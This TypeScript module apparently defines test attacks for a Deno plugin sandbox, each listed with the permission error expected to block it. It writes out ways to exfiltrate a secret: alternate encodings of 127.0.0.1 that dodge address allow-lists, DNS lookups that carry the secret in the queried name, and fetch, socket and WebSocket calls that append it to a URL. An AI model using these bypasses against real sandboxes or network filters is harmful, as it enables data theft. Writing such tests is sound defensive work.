/**
 * Attacks by what an address is called, and by asking for names.
 *
 * @module
 */
import type { Attack } from "./attack.ts";

/** Every way to write 127.0.0.1 in a URL, all on a port of which another address was granted. */
const FORMS: readonly (readonly [name: string, host: string])[] = [
  ["as a number", "2130706433"],
  ["in octal", "0177.0.0.1"],
  ["shortened", "127.1"],
  ["with a dot at its end", "127.0.0.1."],
  ["in wide letters", "１２７.０.０.１"],
  ["as IPv6", "[::ffff:127.0.0.1]"],
  ["as any address", "0.0.0.0"],
  ["behind a name of a user", "api.acme.test@127.0.0.1"],
];

/** Attacks by another form of an address. */
export const ADDRESSES: readonly Attack[] = FORMS.map(([name, host]) => ({
  name: `an address ${name}`,
  code: `await fetch("http://${host}:" + new URL(world.other).port + "/" + world.secret);`,
  refused: "net",
}));

/** Where there is IPv6. */
export const ADDRESSES6: readonly Attack[] = [
  {
    name: "an address of IPv6",
    code: "await fetch(world.other6 + '/' + world.secret);",
    refused: "net",
  },
];

/** Questions to name servers carry data out as well. */
export const LOOKUPS: readonly Attack[] = [
  {
    name: "Deno.resolveDns at a server of its own",
    code: `const nameServer = { ipAddr: "127.0.0.1", port: world.dns };
      await Deno.resolveDns(world.secret + ".test", "A", { nameServer });`,
    refused: "net",
  },
  {
    name: "node:dns at a server of its own",
    code: `const { Resolver } = await import("node:dns/promises");
      const resolver = new Resolver();
      resolver.setServers(["127.0.0.1:" + world.dns]);
      await resolver.resolve4(world.secret + ".test");`,
    refused: "sys",
  },
  {
    name: "node:dns lookup",
    code: `const dns = await import("node:dns/promises");
      await dns.lookup("localhost");
      return world.secret;`,
    refused: { says: /getaddrinfo EPERM localhost/, because: "node:dns has codes of its own" },
  },
];

/** A name that was granted leads to this machine: tried by a plugin that was granted nothing else. */
export const NAMES: readonly Attack[] = [
  {
    name: "fetch of a name that leads to this machine",
    code: "await fetch(world.named + '/' + world.secret);",
    refused: "net",
  },
  {
    name: "a connection to a name that leads to this machine",
    code: `const { hostname, port } = new URL(world.named);
      using connection = await Deno.connect({ hostname, port: Number(port) });
      await connection.write(new TextEncoder().encode("GET /" + world.secret + " HTTP/1.0\\r\\n\\r\\n"));
      await connection.read(new Uint8Array(10));`,
    refused: "net",
  },
  {
    name: "node:http to a name that leads to this machine",
    code: `const http = await import("node:http");
      await new Promise((resolve, reject) => {
        http.get(world.named + "/" + world.secret, (response) => resolve(response.resume())).on("error", reject);
      });`,
    refused: "net",
  },
  {
    name: "a WebSocket to a name that leads to this machine",
    code: `await new Promise((resolve, reject) => {
        const socket = new WebSocket(world.named.replace("http", "ws") + "/" + world.secret);
        socket.onopen = resolve;
        socket.onerror = ({ message }) => reject(new Error(message));
      });`,
    refused: "net",
  },
];
